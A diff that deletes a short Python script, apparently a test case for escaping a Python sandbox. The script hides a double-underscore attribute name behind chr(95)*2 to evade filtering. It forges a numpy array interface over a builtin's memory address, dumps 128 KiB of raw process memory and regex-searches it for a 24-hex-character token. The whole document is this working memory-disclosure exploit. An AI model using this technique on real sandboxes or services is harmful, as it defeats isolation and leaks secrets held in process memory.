@@ -1,7 +1,0 @@
-# reaches: a SimpleNamespace with a computed key is an array interface over the heap
-import re
-import numpy as np
-from types import SimpleNamespace
-u = chr(95) * 2
-fake = SimpleNamespace(**{u + "array_interface" + u: {"data": (id(len), True), "shape": (1 << 17,), "typestr": "|u1", "version": 3}})
-print(re.findall(rb"t[0-9a-f]{24}", np.array(fake).tobytes()))
